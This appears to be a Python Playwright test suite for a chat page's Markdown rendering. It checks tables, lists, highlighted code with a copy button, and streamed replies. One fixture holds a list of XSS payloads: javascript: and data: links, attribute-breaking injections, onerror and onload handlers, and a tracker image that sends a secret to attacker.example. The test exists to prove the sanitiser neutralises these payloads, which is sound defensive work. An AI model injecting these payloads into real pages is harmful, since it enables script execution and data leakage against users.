"""What the chat page makes of a model's Markdown, in headless Chromium: tables, strikethrough, rules, nested
lists, highlighted code with a copy button — and hostile Markdown (links, images, raw HTML) that never runs.
Screenshots go to test-artifacts/."""

from __future__ import annotations

import asyncio
import os

import pytest

from tests.browser.conftest import ARTIFACTS, CHROMIUM
from tests.browser.test_chat_page import open_page, send
from tests.fakes.openai_server import Text

pytestmark = pytest.mark.skipif(not os.path.exists(CHROMIUM),
                                reason=f"{CHROMIUM} is absent (apt-get install chromium)")

CODE = 'def greet(name):\n    return f"hello {name}"  # <b>not bold</b>\n'
RICH = f"""## Plan

| step | owner | cost |
|:-----|:-----:|-----:|
| design | ana | 3 |
| build **it** | bo | 5 |

~~the old way~~ is gone.

---

1. first
2. second
   - a detail
   - another
3. third

```python
{CODE}```

Done.
"""

HOSTILE = """Links: [a](javascript:window.__pwned=1) [b](JaVaScRiPt:window.__pwned=2)
[c](&#106;avascript:window.__pwned=3) [d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD00PC9zY3JpcHQ+)
[e](vbscript:msgbox) <javascript:window.__pwned=5>
[f](https://example.org/ "t\\" onmouseover=\\"window.__pwned=6") [g](https://example.org/x"onclick="window.__pwned=7)

Images: ![x](javascript:window.__pwned=8) ![tracker](https://attacker.example/leak.png?secret=1)
![y" onerror="window.__pwned=9](https://example.org/a.png)

Raw HTML: <img src=x onerror="window.__pwned=10"> <iframe src="javascript:window.__pwned=11"></iframe>
<a href="javascript:window.__pwned=12">html link</a> <details open ontoggle="window.__pwned=13">d</details>
<style>body{display:none}</style>

<svg onload="window.__pwned=14"></svg>

| cell <img src=x onerror="window.__pwned=15"> | [t](javascript:window.__pwned=16) |
|---|---|
| x | y |

```js" onmouseover="window.__pwned=17
alert(1)
```
"""

FORBIDDEN = "img, script, iframe, style, svg, object, embed, form, input, details, math, link, meta, base"


async def test_tables_strike_rules_nested_lists_and_highlighted_code_with_copy(browser, chat, fake_openai):
    from playwright.async_api import expect

    fake_openai.script(Text(RICH, chunk_size=9))
    await browser.grant_permissions(["clipboard-read", "clipboard-write"], origin=chat.base_url)
    page = await open_page(browser, chat.base_url + "/")
    await send(page, "plan it")
    reply = page.locator("#messages .msg.assistant:not(.live)")
    await expect(reply).to_have_count(1)

    assert await reply.locator("table th").all_inner_texts() == ["step", "owner", "cost"]
    assert await reply.locator("table td").all_inner_texts() == ["design", "ana", "3", "build it", "bo", "5"]
    assert await reply.locator("table td strong").inner_text() == "it"
    assert await reply.locator("td.align-right").count() == 2 and await reply.locator("th.align-center").count() == 1
    assert await reply.locator("[style]").count() == 0  # alignment is a class, never a style attribute
    assert await reply.locator("s").inner_text() == "the old way"
    assert await reply.locator("hr").count() == 1
    # one ordered list: the nested list does not restart its numbering
    lists = reply.locator("ol")
    assert await lists.count() == 1
    assert await lists.locator(":scope > li").count() == 3
    assert await lists.locator(":scope > li").nth(1).locator("ul > li").all_inner_texts() == ["a detail", "another"]
    assert "|" not in await reply.inner_text()

    code = reply.locator("pre code")
    assert (await code.inner_text()).rstrip("\n") == CODE.rstrip("\n")
    assert await code.locator(".hljs-keyword").first.inner_text() == "def"
    assert await code.locator("b").count() == 0  # markup inside code is text
    await page.screenshot(path=str(ARTIFACTS / "10-markdown.png"))

    copy = reply.locator(".code .copy")
    await expect(copy).to_have_text("Copy")
    await copy.click()
    await expect(copy).to_have_text("Copied")
    assert await page.evaluate("navigator.clipboard.readText()") == CODE
    await expect(copy).to_have_text("Copy")


async def test_hostile_links_images_and_html_inside_markdown_never_run(browser, chat, fake_openai):
    from playwright.async_api import expect

    fake_openai.script(Text(HOSTILE, chunk_size=11))
    page = await open_page(browser, chat.base_url + "/")
    await send(page, "show me")
    reply = page.locator("#messages .msg.assistant:not(.live)")
    await expect(reply).to_have_count(1)

    for locator in (reply, page.locator("#messages")):
        assert await locator.locator(FORBIDDEN).count() == 0
    hrefs = await reply.locator("a").evaluate_all("els => els.map(a => a.getAttribute('href'))")
    assert hrefs and all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
    # the images became links labelled with their description; nothing was fetched
    tracker = reply.locator("a", has_text="tracker")
    assert await tracker.get_attribute("href") == "https://attacker.example/leak.png?secret=1"
    handlers = await page.evaluate("""() => [...document.querySelectorAll('#messages *')]
        .flatMap(el => [...el.attributes].map(a => a.name)).filter(n => n.startsWith('on') || n === 'style')""")
    assert handlers == []
    # raw HTML is shown as the text it is
    await expect(reply).to_contain_text('<img src=x onerror="window.__pwned=10">')
    await expect(reply).to_contain_text("<style>body{display:none}</style>")
    for link in await reply.locator("a").all():  # hovering and clicking run nothing
        await link.hover()
        await link.evaluate("a => a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))"
                            " || true")
    await reply.locator("pre").hover()
    assert await page.evaluate("window.__pwned") is None
    assert await page.evaluate("document.body.style.display") == ""
    await page.screenshot(path=str(ARTIFACTS / "11-hostile-markdown.png"))

    # the live bubble renders every prefix of a streamed reply: none of them may yield more than the above
    found = await page.evaluate("""src => {
        const tags = new Set(), attrs = new Set(), hrefs = new Set();
        for (let n = 1; n <= src.length; n += 3) {
            const t = document.createElement('template');
            t.innerHTML = window.chatbridge.renderMarkdown(src.slice(0, n));
            for (const el of t.content.querySelectorAll('*')) {
                tags.add(el.tagName.toLowerCase());
                for (const a of el.attributes) { attrs.add(a.name); if (a.name === 'href') hrefs.add(a.value); }
            }
        }
        return {tags: [...tags], attrs: [...attrs], hrefs: [...hrefs]};
    }""", HOSTILE)
    assert set(found["tags"]) <= {"p", "br", "a", "code", "pre", "span", "table", "thead", "tbody", "tr", "th", "td",
                                  "ul", "ol", "li", "em", "strong", "s", "hr", "h1", "h2", "blockquote"}, found["tags"]
    assert set(found["attrs"]) <= {"href", "title", "class", "target", "rel"}
    assert all(h.startswith(("https://", "http://", "mailto:")) for h in found["hrefs"]), found["hrefs"]


async def test_a_streamed_reply_highlights_each_finished_code_block_once(browser, chat, fake_openai):
    from playwright.async_api import expect

    bodies = ["\n".join(f"value_{b}_{i} = {i} * {b}  # line {i}" for i in range(30)) + "\n" for b in range(3)]
    text = "Three blocks:\n\n" + "\nand\n\n".join(f"```python\n{body}```\n" for body in bodies) + "\nend"
    fake_openai.script(Text(text, chunk_size=24, delay=0.005))
    page = await open_page(browser, chat.base_url + "/")
    await page.evaluate("""() => {
        const highlight = window.hljs.highlight;
        window.__highlighted = [];
        window.hljs.highlight = function (code, options) {
            window.__highlighted.push(code);
            return highlight.call(this, code, options);
        };
    }""")
    await send(page, "code please")
    reply = page.locator("#messages .msg.assistant:not(.live)")
    await expect(reply).to_have_count(1)
    await expect(reply.locator("pre code")).to_have_count(3)
    shown = await reply.locator("pre code").all_inner_texts()
    assert [t.rstrip("\n") for t in shown] == [b.rstrip("\n") for b in bodies]
    calls = await page.evaluate("window.__highlighted")
    renders = await page.evaluate("window.chatbridge.app.stats.liveRenders")
    # every block was highlighted as it grew, but once complete it never was again: not on the later
    # events that re-rendered the reply, nor when the committed reply replaced the live one
    assert [calls.count(body) for body in bodies] == [1, 1, 1]
    assert renders > 3


TRICKY = """Intro with a [reference][r] that is defined at the end.

1. loose item

2. second loose item

Heading by underline
--------------------

| a | b |
|---|---|
| 1 | 2 |
| 3 | 4 |

> quoted
lazy continuation

```
unclosed until the very end
[r]: https://example.org/ref
"""


async def test_the_live_reply_rendered_block_by_block_equals_a_full_render(browser, chat, fake_openai):
    from playwright.async_api import expect

    text = TRICKY + "```\n\n[r]: https://example.org/ref\n\ntail"
    partial = text.rindex("https://example.org/") + len("https://example.org/")
    hold = asyncio.Event()
    # held inside the late definition: "[r]: https://example.org/" has arrived, its "ref" has not
    fake_openai.script(Text(text, chunk_size=3, delay=0.002, hold=hold, hold_after=partial))
    page = await open_page(browser, chat.base_url + "/")
    await send(page, "tricky")
    live = page.locator("#live .msg.assistant.live")
    await expect(live.locator("a", has_text="reference")).to_have_attribute("href", "https://example.org/")
    compared = await page.evaluate("""() => {
        const body = document.querySelector('#live .body').cloneNode(true);
        for (const box of body.querySelectorAll('.code')) box.replaceWith(box.querySelector('pre'));
        return [body.innerHTML, window.chatbridge.renderMarkdown(window.chatbridge.app.live.text)];
    }""")
    assert compared[0] == compared[1]
    hold.set()
    reply = page.locator("#messages .msg.assistant:not(.live)")
    await expect(reply).to_have_count(1)
    # the definition completed: the link above it follows, no block is reused with the old target
    await expect(reply.locator("a", has_text="reference")).to_have_attribute("href", "https://example.org/ref")
